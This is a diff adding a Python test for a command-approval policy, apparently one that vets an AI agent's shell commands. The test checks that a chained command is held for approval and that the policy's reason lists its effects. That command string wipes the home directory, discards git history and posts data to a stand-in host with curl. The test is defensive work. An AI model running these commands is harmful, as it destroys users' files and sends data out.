@@ -40,6 +40,16 @@ def test_the_default_policy_decides(project: Path, command: str, decision: str, 
     assert records(events[decision])
 
 
+def test_the_reason_tells_of_everything_that_is_asked_about(project: Path) -> None:
+    """Whoever answers hears of each effect once, and of none that is not the question."""
+    command = "git reset --hard; git reset --hard HEAD~1; rm -rf ~; curl -d x https://x.example"
+    decision, reason = before(project, "Bash", command=command)
+    assert decision == "ask"
+    assert reason.startswith("This command throws away uncommitted work. Also, it deletes files outside the project")
+    assert reason.count("uncommitted") == 1
+    assert "sends" not in reason
+
+
 def test_a_production_project_asks_for_everything(project: Path, warm: Path) -> None:
     """The same command is asked in a project that the facts label production, and destruction is refused."""
     policy = warm / "config" / "policy"
